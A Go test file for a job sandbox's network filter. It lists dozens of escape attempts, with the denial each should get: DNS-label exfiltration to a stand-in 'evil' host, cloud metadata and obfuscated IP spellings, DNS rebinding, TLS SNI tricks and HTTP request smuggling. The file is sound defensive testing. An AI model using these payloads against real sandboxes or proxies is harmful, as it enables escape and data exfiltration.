package network

import (
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"

	"corral/internal/test/nettest"
	"corral/internal/test/sandboxtest"
	"corral/isolate"
	"corral/isolate/test/supervise"
	"corral/job"
)

// Canaries are servers that no job may reach. They note what reaches them.
type canaries struct {
	mu      sync.Mutex
	reached []string // guarded by mu
}

func (c *canaries) note(format string, a ...any) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.reached = append(c.reached, fmt.Sprintf(format, a...))
}

// take returns what reached a canary since the last call.
func (c *canaries) take() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	list := c.reached
	c.reached = nil
	return list
}

// listen makes a canary of a TCP port.
func (c *canaries) listen(in *nettest.Internet, addr string) {
	l := in.Listen(addr)
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.note("a connection to %s", addr)
			conn.Close()
		}
	}()
}

// listenUDP makes a canary of a UDP port.
func (c *canaries) listenUDP(t *testing.T, addr string) {
	conn, err := net.ListenPacket("udp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	go func() {
		b := make([]byte, 2048)
		for {
			if _, _, err := conn.ReadFrom(b); err != nil {
				return
			}
			c.note("a datagram to %s", addr)
		}
	}()
}

// handler serves an allowed host, and notes requests that are not for it.
func (c *canaries) handler(name string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		host, _, _ := strings.Cut(strings.ToLower(r.Host), ":")
		if host != name || strings.Contains(r.URL.Path, "smuggled") || r.Method == http.MethodConnect {
			c.note("%s %s for %q at %s", r.Method, r.URL, r.Host, name)
		}
		_, _ = fmt.Fprintf(w, "answered by %s\n", name)
	})
}

// special are addresses that an allowed name must not lead to, in the ranges of IANA's registries and others that machines trust.
var special = []string{
	"0.0.0.0", "0.0.0.1", "10.66.0.1", "100.64.66.1", "127.0.0.1", "127.66.0.1", "127.255.255.254", "168.63.129.16", "169.254.66.1", "169.254.169.254",
	"172.16.66.1", "172.31.66.1", "192.0.0.1", "192.0.2.66", "192.88.99.1", "192.168.66.1", "198.18.0.1", "198.18.66.1", "198.51.100.1", "203.0.113.1",
	"224.0.0.1", "239.255.255.250", "240.0.0.1", "255.255.255.255",
	"::", "::1", "::7f00:1", "::ffff:127.0.0.1", "::ffff:10.66.0.1", "::ffff:0:127.0.0.1", "64:ff9b::7f00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::1",
	"2001::7f00:1", "2001:db8::66", "100::1", "fc00::66", "fd00:ec2::254", "fe80::66", "fec0::66", "ff02::1",
}

// place is a jail's door with canaries around it.
type place struct {
	*supervise.Front
	in *nettest.Internet
	canaries
}

const attemptRules = `{"allow":[{"host":"web.example.org"},{"host":"plain.example.org","protocol":"http"},` +
	`{"host":"*.wild.example.org"},{"host":"db.example.org","ports":[5432],"protocol":"tcp"},{"host":"*.special.example.org","ports":[443,8000],"protocol":"tcp"}],` +
	`"deny":["telemetry.wild.example.org"],"private":["192.0.2.1/32","192.0.2.2/32"]}`

func newPlace(t *testing.T) *place {
	t.Helper()
	p := &place{in: nettest.NewInternet(t)}
	for name, addr := range map[string]string{
		"web.example.org": "192.0.2.1", "plain.example.org": "192.0.2.1", "db.example.org": "192.0.2.2", "evil.example.net": "192.0.2.66",
		"wild.example.org": "192.0.2.66", "telemetry.wild.example.org": "192.0.2.66", "sub.web.example.org": "192.0.2.66",
	} {
		p.in.Name(name, addr)
	}
	for n, addr := range special {
		p.in.Name(fmt.Sprintf("s%d.special.example.org", n), addr)
	}
	p.in.NameFunc("rebind.special.example.org", nettest.Alternate("192.0.2.1", "127.0.0.1"))
	p.in.Name("both.special.example.org", "127.0.0.1", "192.0.2.66")
	p.in.Serve("192.0.2.1:443", p.handler("web.example.org"), "web.example.org", "evil.example.net")
	p.in.Serve("192.0.2.1:80", p.handler("plain.example.org"))
	echo(p.in.Listen("192.0.2.2:5432"))
	for _, addr := range []string{
		"192.0.2.66:80", "192.0.2.66:443", "192.0.2.66:53", "192.0.2.66:8000", "192.0.2.1:8443", "192.0.2.1:22", "127.0.0.1:8000", "127.0.0.1:443", "127.0.0.1:80",
		"[::1]:8000", "[::1]:443",
	} {
		p.listen(p.in, addr)
	}
	for _, addr := range []string{"192.0.2.66:53", "192.0.2.66:443", "192.0.2.1:443", "127.0.0.1:8000"} {
		p.listenUDP(t, addr)
	}
	p.Front = supervise.New(t, func(c *isolate.Config) { c.Network = []byte(attemptRules) })
	sandboxtest.Put(t, p.Repo+"/roots.pem", string(p.in.Roots), 0o644, sandboxtest.Owner)
	sandboxtest.Put(t, p.Repo+"/Attempt.pm", attemptModule, 0o644, sandboxtest.Owner)
	return p
}

// attemptModule has functions for attempts in Perl. Each returns or prints what came of it.
const attemptModule = `package Attempt; use Socket qw(:all); use IO::Select; use Exporter "import"; use Errno;
our @EXPORT = qw(at tcp udp raw http dns name hello say); $| = 1;
sub at { my ($host) = @_; inet_aton($host) }
# tcp connects, and returns the socket or says why not.
sub tcp { my ($host, $port) = @_; my $a = at($host) or return say("no address"); socket my $s, PF_INET, SOCK_STREAM, 0 or return say("$!");
  connect $s, sockaddr_in($port, $a) or return say("$!"); $s }
# udp sends a datagram.
sub udp { my ($addr, $port, $data) = @_; socket my $s, PF_INET, SOCK_DGRAM, 0; setsockopt $s, SOL_SOCKET, SO_BROADCAST, 1;
  connect $s, sockaddr_in($port, inet_aton($addr)) or return say("$!"); send($s, $data, 0) or return say("$!"); IO::Select->new($s)->can_read(0.2) or return say("no reply");
  defined recv($s, my $x, 999, 0) ? say("a reply of ".length $x) : say("$!") }
sub say { print "@_\n"; undef }
# raw sends data and prints the beginning of each line of the reply that is a status.
sub raw { my ($host, $port, @data) = @_; my $s = tcp($host, $port) or return;
  for (@data) { syswrite $s, $_; select undef, undef, undef, 0.05 if @data > 1 } my $all = "";
  while (IO::Select->new($s)->can_read(1)) { sysread $s, my $x, 65536 or last; $all .= $x }
  my @seen = $all =~ m{^(HTTP/1.\d \d+|corral: denied: [^\n]*|answered by \S+)}mg; say(@seen ? join " | ", @seen : $all eq "" ? "closed" : unpack "H*", substr $all, 0, 7) }
sub http { raw("plain.example.org", 80, @_) }
# name is a name as DNS has it, dns a query for it.
sub name { join("", map { chr(length) . $_ } split /\./, $_[0]) . "\0" }
sub dns { my ($name, %o) = @_; socket my $s, PF_INET, SOCK_DGRAM, 0; connect $s, sockaddr_in(53, inet_aton("127.0.0.1"));
  send $s, pack("n6", 7, $o{flags} // 0x100, 1, 0, 0, 0) . ($o{raw} // name($name)) . pack("nn", $o{type} // 1, $o{class} // 1), 0;
  IO::Select->new($s)->can_read(1) or return say("no reply"); recv $s, my $x, 999, 0; my ($flags, $n) = (unpack "n6", $x)[1, 3]; say("code " . ($flags & 15) . ", $n answers") }
# hello is a ClientHello: of TLS 1.2, with these extensions.
sub hello { my ($ext) = @_; my $body = pack("n", 0x303) . "r" x 32 . "\0" . pack("n/a", pack "n2", 0xc02f, 0x9c) . "\1\0" . pack("n/a", $ext . pack("nn/a", 10, pack "n/a", pack "n", 23) . pack("nn/a", 13, pack "n/a", pack "n", 0x401));
  my $message = "\1" . substr(pack("N", length $body), 1) . $body; pack("Cnn/a", 22, 0x301, $message) }
sub sni { my ($name) = @_; pack "nn/a", 0, pack "n/a", "\0" . pack "n/a", $name }
push @EXPORT, "sni"; 1;
`

// An attempt is what a job tries to reach something that the rules do not allow.
type attempt struct {
	name, perl string
	want       string // what it prints: the kernel's or corral's answer
}

const (
	noAddress   = "no address\n"
	unreachable = "Network is unreachable\n"
	refused     = "Connection refused\n"
	noName      = "code 3, 0 answers\n"
	// alerts of TLS: unrecognized_name and decode_error
	alertName, alertDecode = "15030300020270\n", "15030300020232\n"
)

// attempts of names, addresses, TLS, HTTP, and on the door itself.
var attempts = []attempt{
	{"another name", `tcp "evil.example.net", 443`, noAddress},
	{"the domain of a wildcard", `tcp "wild.example.org", 443`, noAddress},
	{"a denied name under a wildcard", `tcp "telemetry.wild.example.org", 443`, noAddress},
	{"a name below an allowed one", `tcp "sub.web.example.org", 443`, noAddress},
	{"an allowed name as a prefix", `tcp "web.example.org.evil.example.net", 443`, noAddress},
	{"an allowed name as a suffix without a dot", `tcp "evilweb.example.org", 443`, noAddress},
	{"data in labels of another name", `tcp "s3cr3t-data.evil.example.net", 443`, noAddress},
	{"data in labels under a wildcard, looked up", `dns "s3cr3t-data.wild.example.org"`, "code 0, 1 answers\n"},
	{"TXT of another name", `dns "s3cr3t-data.evil.example.net", type => 16`, noName},
	{"ANY of another name", `dns "evil.example.net", type => 255`, noName},
	{"NS of the root", `dns "", raw => "\0", type => 2`, noName},
	{"HTTPS of an allowed name, for ECH", `dns "web.example.org", type => 65`, "code 0, 0 answers\n"},
	{"IPv6 of an allowed name", `dns "web.example.org", type => 28`, "code 0, 0 answers\n"},
	{"class CHAOS", `dns "evil.example.net", class => 3`, "code 5, 0 answers\n"},
	{"a dynamic update", `dns "evil.example.net", flags => 0x2900`, "code 4, 0 answers\n"},
	{"a dot in a label", `dns "", raw => "\x0fweb.example.org\0"`, "code 1, 0 answers\n"},
	{"NUL in a label", `dns "", raw => "\4web\0\7example\3org\0"`, noName},
	{"a letter that folds to ASCII", `dns "", raw => "\3web\7exampl\x{c5}\3org\0"`, noName},
	{"a compression pointer", `dns "", raw => "\xc0\x0c"`, "code 1, 0 answers\n"},
	{"another name server by UDP", `udp "192.0.2.66", 53, "x"`, unreachable},
	{"another name server by TCP", `tcp "192.0.2.66", 53`, unreachable},
	{"mDNS", `udp "224.0.0.251", 5353, "x"`, "no reply\n"}, // it reaches the jail alone
	{"broadcast", `udp "255.255.255.255", 53, "x"`, unreachable},

	{"an address", `tcp "192.0.2.66", 443`, unreachable},
	{"an address in decimal", `tcp "3221226050", 443`, unreachable},
	{"an address in octal", `tcp "0300.0.02.0102", 443`, unreachable},
	{"an address in hexadecimal", `tcp "0xc0000242", 443`, unreachable},
	{"the address of an allowed host", `tcp "192.0.2.1", 443`, unreachable},
	{"metadata", `tcp "169.254.169.254", 80`, unreachable},
	{"metadata in decimal", `tcp "2852039166", 80`, unreachable},
	{"the host's loopback", `tcp "127.0.0.1", 8000`, refused},
	{"the host's loopback, otherwise", `tcp "127.66.0.1", 8000`, refused},
	{"this host", `tcp "0.0.0.0", 8000`, refused},
	{"IPv6 loopback", `socket my $s, PF_INET6, SOCK_STREAM, 0; connect $s, Socket::pack_sockaddr_in6(8000, Socket::inet_pton(PF_INET6, "::1")) or say "$!"`, refused},
	{"a mapped address", `socket my $s, PF_INET6, SOCK_STREAM, 0; connect $s, Socket::pack_sockaddr_in6(443, Socket::inet_pton(PF_INET6, "::ffff:192.0.2.66")) or say "$!"`, unreachable},
	{"a mapped loopback", `socket my $s, PF_INET6, SOCK_STREAM, 0; connect $s, Socket::pack_sockaddr_in6(8000, Socket::inet_pton(PF_INET6, "::ffff:127.0.0.1")) or say "$!"`, refused},
	{"an address of IPv6", `socket my $s, PF_INET6, SOCK_STREAM, 0; connect $s, Socket::pack_sockaddr_in6(443, Socket::inet_pton(PF_INET6, "2001:db8::66")) or say "$!"`, unreachable},
	{"another port of an allowed host", `tcp "web.example.org", 8443`, refused},
	{"SSH of an allowed host", `tcp "web.example.org", 22`, refused},
	{"QUIC of an allowed host", `udp join(".", unpack "C4", at "web.example.org"), 443, "x" x 1200`, refused},
	{"an address that stands for nothing", `at "web.example.org"; tcp "198.18.66.66", 443`, refused},
	{"all stand-in addresses near", `at "web.example.org"; for (3..60) { for my $p (80, 443, 5432, 8443) { socket my $s, PF_INET, SOCK_STREAM, 0; connect $s, sockaddr_in($p, inet_aton "198.18.0.$_") and say "open: $_:$p" } } say "done"`, "done\n"},
	{"a raw socket", `socket my $s, PF_INET, SOCK_RAW, 1 or say "$!"`, "Operation not permitted\n"},
	{"a packet socket", `socket my $s, 17, SOCK_RAW, 0x300 or say "$!"`, "Address family not supported by protocol\n"},
	{"a ping socket", `socket my $s, PF_INET, SOCK_DGRAM, 1 or say "$!"`, "Protocol not supported\n"},
	{"SCTP", `socket my $s, PF_INET, SOCK_STREAM, 132 or say "$!"`, "Protocol not supported\n"},
	{"vsock", `socket my $s, 40, SOCK_STREAM, 0 or say "$!"`, "Address family not supported by protocol\n"},
	{"a route by netlink", `socket my $s, 16, SOCK_RAW, 0; send $s, pack("LSSLLCCCCCCCCL", 28, 24, 0x605, 1, 0, 2, 0, 0, 0, 254, 4, 0, 1, 0), 0; recv $s, my $x, 999, 0; say "error ", unpack "x16l", $x`, "error  -1\n"},
	{"bind to a device", `socket my $s, PF_INET, SOCK_STREAM, 0; setsockopt $s, SOL_SOCKET, 25, "eth0\0" or say "$!"; connect $s, sockaddr_in(443, inet_aton "192.0.2.66") or say "$!"`, "No such device\n" + unreachable},
	{"source routing", `socket my $s, PF_INET, SOCK_STREAM, 0; setsockopt $s, 0, 4, pack("C3a4x", 0x83, 7, 4, inet_aton "192.0.2.66"); connect $s, sockaddr_in(443, inet_aton "192.0.2.66") or say "$!"`, unreachable},

	{"another name in TLS", `raw "web.example.org", 443, hello sni "evil.example.net"`, alertName},
	{"no name in TLS", `raw "web.example.org", 443, hello ""`, alertName},
	{"an address in TLS", `raw "web.example.org", 443, hello sni "192.0.2.66"`, alertName},
	{"the name with a dot in TLS", `raw "web.example.org", 443, hello sni "web.example.org."`, alertDecode},
	{"an encrypted name in TLS", `raw "web.example.org", 443, hello sni("web.example.org") . pack "nn/a", 0xfe0d, pack "CnnCn/an/a", 0, 1, 1, 7, "x" x 32, "y" x 64`, alertName},
	{"two names in TLS", `raw "web.example.org", 443, hello sni("web.example.org") . sni("evil.example.net")`, alertDecode},
	{"two names in one extension", `raw "web.example.org", 443, hello pack "nn/a", 0, pack "n/a", join "", map { "\0" . pack "n/a", $_ } "web.example.org", "evil.example.net"`, alertDecode},
	{"another name in pieces", `raw "web.example.org", 443, map { substr hello(sni "evil.example.net"), $_ * 20, 20 } 0..9`, alertName},
	{"the name of a neighbor under the wildcard", `raw "a.wild.example.org", 443, hello sni "b.wild.example.org"`, alertName},
	{"HTTP at a port of TLS", `raw "web.example.org", 443, "GET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, alertDecode},
	{"CONNECT at a port of TLS", `raw "web.example.org", 443, "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\n\r\n"`, alertDecode},
	{"SSH at a port of TLS", `raw "web.example.org", 443, "SSH-2.0-x\r\n"`, alertDecode},
	{"SSL 2", `raw "web.example.org", 443, "\x80\x2e\1\3\1\0\x15\0\0\0\x10" . "x" x 40`, alertDecode},

	{"another Host", `http "GET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request is for the host \"evil.example.net\"\n"},
	{"no Host", `http "GET / HTTP/1.1\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request has 0 Host lines, must have one\n"},
	{"two Hosts", `http "GET / HTTP/1.1\r\nHost: plain.example.org\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request has 2 Host lines, must have one\n"},
	{"a folded Host", `http "GET / HTTP/1.1\r\nHost: plain.example.org\r\n evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: a line of the head continues the one before (obs-fold)\n"},
	{"a Host with a user", `http "GET / HTTP/1.1\r\nHost: plain.example.org\@evil.example.net\r\n\r\n"`, "HTTP/1.1 400\n"},
	{"a Host with another port", `http "GET / HTTP/1.1\r\nHost: plain.example.org:8443\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request is for the host \"plain.example.org:8443\"\n"},
	{"a blank before the colon of Host", `http "GET / HTTP/1.1\r\nHost : evil.example.net\r\nHost: plain.example.org\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: a line of the head is not a name, a colon and a value\n"},
	{"the URL of another host", `http "GET http://evil.example.net/ HTTP/1.1\r\nHost: plain.example.org\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request is for \"evil.example.net\"\n"},
	{"another scheme", `http "GET https://plain.example.org/ HTTP/1.1\r\nHost: plain.example.org\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request is for \"plain.example.org\"\n"},
	{"CONNECT", `http "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: plain.example.org\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the method CONNECT, which asks for another connection\n"},
	{"CL.TE", `http "POST / HTTP/1.1\r\nHost: plain.example.org\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request has both Transfer-Encoding and Content-Length\n"},
	{"TE.CL", `http "POST / HTTP/1.1\r\nHost: plain.example.org\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n40\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n0\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request has both Transfer-Encoding and Content-Length\n"},
	{"two lengths", `http "POST / HTTP/1.1\r\nHost: plain.example.org\r\nContent-Length: 4\r\nContent-Length: 60\r\n\r\nxxxxGET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request gives its length several times\n"},
	{"two encodings", `http "POST / HTTP/1.1\r\nHost: plain.example.org\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: the request gives its length several times\n"},
	{"a line that ends without CR", `http "GET / HTTP/1.1\r\nHost: plain.example.org\r\nX: y\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: a line of the head has a control character\n"},
	{"a line with NUL", `http "GET / HTTP/1.1\r\nHost: plain.example.org\r\nX: y\0\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: a line of the head has a control character\n"},
	{"a second request in the same segment", `http "GET / HTTP/1.1\r\nHost: plain.example.org\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 200 | answered by plain.example.org\n"},
	{"a second request later", `http "GET / HTTP/1.1\r\nHost: plain.example.org\r\n\r\n", "GET /smuggled HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"`, "HTTP/1.1 200 | answered by plain.example.org\n"},
	{"HTTP/2 without TLS", `http "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: not a request of HTTP/1.1 or 1.0\n"},
	{"HTTP/0.9", `http "GET /smuggled\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: not a request of HTTP/1.1 or 1.0\n"},
	{"TLS at a port of HTTP", `raw "plain.example.org", 80, hello(sni "evil.example.net") . "\r\n\r\n"`, "HTTP/1.1 403 | corral: denied: not a request of HTTP/1.1 or 1.0\n"},
}

// TestAttempts: no attempt of a job reaches what the rules do not allow, and each gets a definite answer.
func TestAttempts(t *testing.T) {
	p := newPlace(t)
	for _, a := range attempts {
		t.Run(a.name, func(t *testing.T) {
			out := p.perl(a.perl)
			if out != a.want {
				t.Errorf("it printed %q, want %q", out, a.want)
			}
			for _, what := range p.take() {
				t.Errorf("it reached %s", what)
			}
		})
	}
	for _, name := range p.in.Queries() {
		if strings.Contains(name, "s3cr3t") || strings.Contains(name, "evil") || strings.Contains(name, "telemetry") {
			t.Errorf("%s was looked up outside", name)
		}
	}
}

// perl runs a program with the functions of attemptModule.
func (p *place) perl(program string, change ...func(*job.Spec)) string {
	p.T.Helper()
	spec := p.Spec("perl", "-I"+p.Repo, "-MAttempt", "-MSocket", "-e", program)
	for _, f := range change {
		f(&spec)
	}
	d := p.Run(spec)
	return d.Out + d.Err
}

// TestSpecialAddresses: a name that the rules allow does not lead to an address that is not a host of the Internet, in no spelling.
func TestSpecialAddresses(t *testing.T) {
	p := newPlace(t)
	for n, addr := range special {
		for _, port := range []int{443, 8000} {
			if out := p.perl(fmt.Sprintf(`raw "s%d.special.example.org", %d, "hello"`, n, port)); out != "closed\n" {
				t.Errorf("%s port %d: %q", addr, port, out)
			}
			for _, what := range p.take() {
				t.Errorf("%s port %d reached %s", addr, port, what)
			}
		}
	}
	for range 6 { // whichever address comes first
		p.perl(`raw "rebind.special.example.org", 8000, "hello"; raw "rebind.special.example.org", 443, "hello"; raw "both.special.example.org", 8000, "hello"`)
		for _, what := range p.take() {
			t.Errorf("a name with several addresses reached %s", what)
		}
	}
}
